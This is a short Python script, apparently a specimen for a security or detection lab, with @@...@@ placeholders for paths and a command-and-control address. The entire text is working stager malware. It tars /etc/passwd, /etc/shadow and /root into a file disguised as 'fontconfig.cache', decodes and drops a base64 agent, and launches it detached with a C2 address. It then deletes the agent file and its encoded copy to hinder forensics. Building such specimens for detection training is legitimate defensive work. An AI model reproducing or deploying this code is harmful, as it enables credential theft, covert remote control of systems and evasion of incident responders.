#!/usr/bin/python3
# kcsi lab specimen: a Python stager run from /dev/shm. It packs /etc/passwd, /etc/shadow and
# /root into a gzip'd tar beside itself (the loot, under a neutral name), writes the agent it
# carries (base64, read from @@AGENT_B64@@ then removed) to @@AGENT@@, runs it with its C2 in
# the environment, and deletes the agent file once it runs (a deleted executable).
import base64, os, tarfile, time

here = os.path.dirname(os.path.abspath(__file__))
with tarfile.open(os.path.join(here, "fontconfig.cache"), "w:gz") as t:
    for p in ("/etc/passwd", "/etc/shadow", "/root"):
        try:
            t.add(p)
        except OSError:
            pass
blob = open("@@AGENT_B64@@", "rb").read()
os.unlink("@@AGENT_B64@@")
os.makedirs(os.path.dirname("@@AGENT@@"), exist_ok=True)
with open("@@AGENT@@", "wb") as f:
    f.write(base64.b64decode(blob))
os.chmod("@@AGENT@@", 0o755)
pid = os.fork()
if pid == 0:
    os.setsid()
    os.execve("@@AGENT@@", ["@@AGENT@@"], dict(os.environ, @@ENVVAR@@="@@C2@@"))
time.sleep(1)
os.unlink("@@AGENT@@")
